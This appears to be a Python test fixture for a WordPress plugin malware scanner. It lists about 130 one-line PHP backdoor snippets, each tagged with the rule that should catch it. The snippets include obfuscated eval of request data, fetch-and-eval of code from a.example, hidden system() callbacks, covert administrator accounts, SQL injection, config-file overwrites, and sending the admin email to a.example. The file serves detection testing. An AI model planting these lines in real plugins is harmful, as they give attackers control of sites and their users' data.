"""Malicious lines of many kinds, as they are put into plugins that behave well.

Each is one line that does harm, with the code that must name it. `LINES` go where a function's body
is, `GLOBAL` to the end of the file.
"""

PAYLOAD = "ZXZhbCgkX1BPU1RbJ3gnXSk7"

LINES: dict[str, tuple[str, str]] = {
    "eval of the request": ("decoded-code", "eval($_POST['x']);"),
    "eval, plain": ("php-eval", "eval('return 1;');"),
    "eval in odd case": ("php-eval", "EvAl ( $text );"),
    "eval behind an at sign": ("php-eval", "@eval($text);"),
    "base64": ("decoded-code", f"eval(base64_decode('{PAYLOAD}'));"),
    "layers": ("decoded-code", "eval(gzinflate(str_rot13(base64_decode('abcd'))));"),
    "layers by variables": (
        "decoded-code",
        "$a = base64_decode('YQ=='); $b = gzinflate($a); eval('?>' . $b);",
    ),
    "strrev": ("decoded-code", "eval(strrev(';)1(tixe'));"),
    "chr chain": (
        "decoded-code",
        "$s = ''; foreach ([101, 118] as $c) { $s .= chr($c); } eval($s);",
    ),
    "hex2bin": ("decoded-code", "eval(hex2bin('6576616c'));"),
    "xor": ("decoded-code", "eval('abc' ^ $_COOKIE['k']);"),
    "option-borne": ("decoded-code", "eval(get_option('site_icon_cache'));"),
    "transient-borne": ("decoded-code", "eval(get_transient('x'));"),
    "post meta": ("decoded-code", "eval(get_post_meta(1, 'x', true));"),
    "remote body": (
        "decoded-code",
        "eval(wp_remote_retrieve_body(wp_remote_get('https://a.example/x')));",
    ),
    "remote file": ("decoded-code", "eval(file_get_contents('https://a.example/x.txt'));"),
    "php input": ("decoded-code", "eval(file_get_contents('php://input'));"),
    "curl": ("decoded-code", "$c = curl_init('https://a.example'); eval(curl_exec($c));"),
    "header": ("decoded-code", "eval($_SERVER['HTTP_X_CODE']);"),
    "through a helper": (
        "decoded-code",
        "$run = function ($c) { eval($c); }; $run($_REQUEST['c']);",
    ),
    "assert text": ("php-eval", "assert('phpinfo()');"),
    "assert request": ("decoded-code", "assert($_GET['a']);"),
    "create_function": ("php-eval", "$f = create_function('', $x); $f();"),
    "preg e": ("php-eval", "preg_replace('/.*/e', $x, '');"),
    "preg e, folded": ("php-eval", "preg_replace('~.~' . 'ie', $x, '');"),
    "exec": ("process-start", "exec('id');"),
    "namespaced exec": ("process-start", "\\exec('id');"),
    "backticks": ("process-start", "`id`;"),
    "proc_open": ("process-start", "proc_open(['id'], [], $pipes);"),
    "command from request": ("decoded-code", "system('ping ' . $_GET['host']);"),
    "folded name": ("hidden-callback", "('sys' . 'tem')('id');"),
    "variable name": ("hidden-callback", "$f = 'pass' . 'thru'; $f('id');"),
    "reversed name": ("hidden-callback", "$f = strrev('metsys'); $f('id');"),
    "hex name": ("hidden-callback", '$f = "\\x73\\x79\\163\\164em"; $f("id");'),
    "base64 name": ("hidden-callback", "$f = base64_decode('c3lzdGVt'); $f('id');"),
    "name by pieces": (
        "hidden-callback",
        "$p = ['sy', 'st', 'em']; $f = implode('', $p); $f('id');",
    ),
    "name by index": ("hidden-callback", "$s = 'mets y'; $f = $s[3] . 'ystem'; $f('id');"),
    "heredoc pieces": ("hidden-callback", "$f = <<<X\n  exe\n  X . 'c'; $f('id');"),
    "sprintf name": ("hidden-callback", "$f = sprintf('%s%s', 'shell_', 'exec'); $f('id');"),
    "rot13 name": ("hidden-callback", "$f = str_rot13('flfgrz'); $f('id');"),
    "inverted name": ("hidden-callback", "$f = ~'\udc8c\udc86\udc8c\udc8b\udc9a\udc92'; $f('id');"),
    "array_map assert": ("hidden-callback", "array_map('ass' . 'ert', [$_POST['x']]);"),
    "usort": ("hidden-callback", "usort($list, 'system');"),
    "call_user_func": ("hidden-callback", "call_user_func('ex' . 'ec', 'id');"),
    "call_user_func_array": ("hidden-callback", "call_user_func_array('system', ['id']);"),
    "array_filter": ("hidden-callback", "array_filter([$_GET['c']], 'system');"),
    "reflection": ("hidden-callback", "(new \\ReflectionFunction('sys' . 'tem'))->invoke('id');"),
    "shutdown": ("hidden-callback", "register_shutdown_function('system', 'id');"),
    "ob_start": ("hidden-callback", "ob_start('assert');"),
    "hook": ("hidden-callback", "add_action('init', 'sys' . 'tem');"),
    "request calls": ("tainted-call", "$_GET['f']($_GET['a']);"),
    "request calls, hidden": ("tainted-call", "${'_' . 'GET'}['f']('x');"),
    "globals": ("tainted-call", "$GLOBALS['_' . 'GET']['f']('x');"),
    "variable variable": ("tainted-call", "$n = '_POST'; $v = $$n; $v['f']('x');"),
    "extract": ("tainted-call", "extract($_REQUEST); $fn('x');"),
    "compact": ("tainted-call", "$f = $_GET['f']; $all = compact('f'); $all['f']('x');"),
    "parse_str": ("tainted-call", "parse_str($_SERVER['QUERY_STRING'], $q); $q['f']();"),
    "request makes": ("tainted-call", "new $_POST['class']($_POST['x']);"),
    "option calls": ("tainted-call", "$f = get_option('x'); $f();"),
    "list": ("tainted-call", "[$f, $a] = $_POST['x']; $f($a);"),
    "foreach": ("tainted-call", "foreach ($_POST as $k => $v) { $k($v); }"),
    "static helper": ("tainted-call", "$h = fn ($f) => $f(); $h($_GET['f']);"),
    "include request": ("include-from-outside", "include $_GET['page'] . '.php';"),
    "include option": ("include-from-outside", "include get_option('x');"),
    "include upload": (
        "include-from-outside",
        "require wp_upload_dir()['basedir'] . '/cache.php';",
    ),
    "include picture": ("include-from-outside", "include __DIR__ . '/assets/logo.png';"),
    "include remote": ("include-from-outside", "include 'https://a.example/x.txt';"),
    "include data": ("include-from-outside", "include 'data:text/plain;base64,' . $x;"),
    "include temporary": ("include-from-outside", "include sys_get_temp_dir() . '/x';"),
    "include uploaded": ("include-from-outside", "include $_FILES['f']['tmp_name'];"),
    "unserialize remote": (
        "unserialize-outside",
        "unserialize(wp_remote_retrieve_body(wp_remote_get('https://a.example')));",
    ),
    "unserialize cookie": ("unserialize-outside", "unserialize(base64_decode($_COOKIE['s']));"),
    "administrator": (
        "makes-administrators",
        "$id = wp_create_user('wp', 'x', 'a@a.example'); (new \\WP_User($id))->set_role('administrator');",
    ),
    "administrator by array": (
        "makes-administrators",
        "wp_insert_user(['user_login' => 'wp', 'role' => 'admin' . 'istrator']);",
    ),
    "administrator by meta": (
        "makes-administrators",
        "update_user_meta(1, $wpdb->prefix . 'capabilities', ['administrator' => true]);",
    ),
    "role from request": ("makes-administrators", "$user->set_role($_POST['role']);"),
    "registration": ("makes-administrators", "update_option('users_can_register', 1);"),
    "default role": ("makes-administrators", "update_option('default_role', 'administrator');"),
    "any option": ("makes-administrators", "update_option($_POST['k'], $_POST['v']);"),
    "signed in": ("signs-in", "wp_set_auth_cookie(1);"),
    "password": ("signs-in", "wp_set_password('x', 1);"),
    "sql": ("sql-injection", "$wpdb->query(\"DELETE FROM x WHERE id = {$_GET['id']}\");"),
    "sql order": (
        "sql-injection",
        "$wpdb->get_results('SELECT 1 FROM x ORDER BY ' . esc_sql($_GET['o']));",
    ),
    "sql in prepare": (
        "sql-injection",
        "$wpdb->query($wpdb->prepare('SELECT ' . $_GET['c'] . ' FROM x WHERE a=%d', 1));",
    ),
    "sql, sprintf": ("sql-injection", "$wpdb->query(sprintf('SELECT %s', $_GET['c']));"),
    "sql, cleaned for pages": (
        "sql-injection",
        "$wpdb->get_var('SELECT a FROM x WHERE b = ' . sanitize_text_field($_GET['b']));",
    ),
    "upload": ("unchecked-upload", "move_uploaded_file($_FILES['f']['tmp_name'], $to);"),
    "php in uploads": (
        "code-in-uploads",
        "file_put_contents(wp_upload_dir()['basedir'] . '/c.php', $x);",
    ),
    "own folder": ("writes-code-folder", "file_put_contents(__DIR__ . '/cache.json', $x);"),
    "core": ("writes-code-folder", "file_put_contents(ABSPATH . 'wp-includes/load.php', $x);"),
    "mu-plugin": ("server-files", "copy(__FILE__, WP_CONTENT_DIR . '/mu-plugins/a.php');"),
    "drop-in": ("server-files", "file_put_contents(WP_CONTENT_DIR . '/object-cache.php', $x);"),
    "wp-config": ("server-files", "file_put_contents(ABSPATH . 'wp-config.php', $x);"),
    "htaccess": ("server-files", "file_put_contents(ABSPATH . '.hta' . 'ccess', $x);"),
    "delete by request": ("path-from-request", "unlink(WP_CONTENT_DIR . '/' . $_GET['f']);"),
    "read by request": ("path-from-request", "readfile($_GET['f']);"),
    "downloaded code": (
        "remote-code",
        "file_put_contents(__DIR__ . '/x.php', wp_remote_retrieve_body(wp_remote_get('https://a.example')));",
    ),
    "download and unpack": (
        "remote-code",
        "unzip_file(download_url('https://a.example/x.zip'), $to);",
    ),
    "installs": ("remote-code", "(new \\Plugin_Upgrader())->install('https://a.example/x.zip');"),
    "no certificates": (
        "tls-unverified",
        "wp_remote_get('https://a.example', ['sslverify' => false]);",
    ),
    "after a date": (
        "dormant-code",
        "if (time() > strtotime('2027-03-01')) { $this_is_late = 1; }",
    ),
    "after a number": ("dormant-code", "if (time() > 1800000000) { $late = 1; }"),
    "after a text": ("dormant-code", "if (date('Ymd') >= '20270301') { $late = 1; }"),
    "for search engines": (
        "cloaked-code",
        "if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { echo '<a>'; }",
    ),
    "address of the administrator": (
        "sends-identity",
        "wp_remote_post('https://a.example', ['body' => ['m' => get_option('admin_email')]]);",
    ),
    "session": ("php-session", "session_start();"),
    "encoder": ("encoded-file", "if (!extension_loaded('ionCube Loader')) { die; }"),
    "preload": ("process-start", "putenv('LD_PRELOAD=/tmp/x.so');"),
    "ffi": ("process-start", "\\FFI::cdef('int system(const char *c);')->system('id');"),
}

LINES |= {
    "filter callback": (
        "hidden-callback",
        "filter_var($_GET['c'], FILTER_CALLBACK, ['options' => 'system']);",
    ),
    "many callbacks": (
        "hidden-callback",
        "preg_replace_callback_array(['/a/' => 'sys' . 'tem'], 'a');",
    ),
    "closure of a name": ("hidden-callback", "(\\Closure::fromCallable('sys' . 'tem'))('id');"),
    "defined variables": ("tainted-call", "$v = get_defined_vars(); $v['_GET']['f']('x');"),
    "environment": ("decoded-code", "eval(getenv('HTTP_X_CODE'));"),
    "any hook": ("tainted-call", "do_action($_REQUEST['hook'], $_REQUEST['arg']);"),
    "own stream": ("include-from-outside", "include 'mine://x';"),
    "zip stream": ("include-from-outside", "include 'zip://' . $x . '#a.php';"),
    "row of an account": (
        "makes-administrators",
        "$wpdb->insert($wpdb->users, ['user_login' => 'wp']);",
    ),
    "row of its rights": (
        "makes-administrators",
        "$wpdb->insert($wpdb->usermeta, ['meta_key' => $wpdb->prefix . 'capabilities', 'meta_value' => 'x']);",
    ),
    "statement on accounts": (
        "makes-administrators",
        "$wpdb->query(\"UPDATE {$wpdb->users} SET user_pass = 'x' WHERE ID = 1\");",
    ),
    "decoded script": (
        "obfuscated-code",
        "echo base64_decode('PHNjcmlwdCBzcmM9Ii8vYS5leGFtcGxlL2EuanMiPjwvc2NyaXB0Pg==');",
    ),
    "default role by a filter": (
        "makes-administrators",
        "add_filter('pre_option_default_role', fn () => 'administrator');",
    ),
    "sign-in by a filter": (
        "signs-in",
        "add_filter('authenticate', fn ($u) => get_user_by('id', 1));",
    ),
}

GLOBAL: dict[str, tuple[str, str]] = {
    "helper function": (
        "decoded-code",
        "function zz($s) { return base64_decode(strrev($s)); } eval(zz('==QZ'));",
    ),
    "helper sink": (
        "decoded-code",
        "function yy($s) { eval($s); } function xx() { yy($_POST['a']); }",
    ),
    "hidden users": (
        "hides-from-lists",
        "add_action('pre_user_query', function ($q) { $q->query_where .= \" AND user_login != 'wp'\"; });",
    ),
    "hidden plugin": (
        "hides-from-lists",
        "add_filter('all_plugins', function ($p) { unset($p['event-list/event-list.php']); return $p; });",
    ),
    "updater": ("own-updater", "add_filter('pre_set_site_transient_update_plugins', 'x_check');"),
    "plugin details": ("own-updater", "add_filter('plugins' . '_api', 'x_info', 20, 3);"),
    "open ajax": (
        "ajax-unguarded",
        "add_action('wp_ajax_nopriv_x', function () { update_option('x', $_POST['x']); });",
    ),
    "ajax without nonce": (
        "ajax-unguarded",
        "add_action('wp_ajax_x', function () { update_option('x', $_POST['x']); });",
    ),
    "open route": (
        "route-unguarded",
        "add_action('rest_api_init', function () { register_rest_route('x/v1', '/set', ['methods' => 'POST',"
        " 'callback' => fn ($r) => update_option('x', $r['x']), 'permission_callback' => '__return_true']); });",
    ),
    "init": (
        "handler-unguarded",
        "add_action('init', function () { if (isset($_GET['x'])) { update_option('x', $_GET['x']); } });",
    ),
    "every minute": (
        "cron-often",
        "add_filter('cron_schedules', function ($s) { $s['m'] = ['interval' => 60, 'display' => 'm']; return $s; });",
    ),
    "remote at each page": (
        "remote-at-load",
        "add_action('init', function () { wp_remote_get('https://a.example/ping'); });",
    ),
    "at load": ("remote-at-load", "wp_remote_get('https://a.example/ping');"),
    "upload types": (
        "wide-upload-types",
        "add_filter('upload_mimes', function ($m) { $m['php'] = 'application/x-php'; return $m; });",
    ),
    "unfiltered uploads": ("unchecked-upload", "define('ALLOW_UNFILTERED_UPLOADS', true);"),
    "scrambled": ("obfuscated-code", "$_0x1a2b = 1; $_0x3c4d = $_0x1a2b;"),
    "parser breaker": ("php-unreadable", "function ( { ]] eval($_POST['x']);"),
    "ssl filter": ("tls-unverified", "add_filter('https_ssl_verify', '__return_false');"),
}
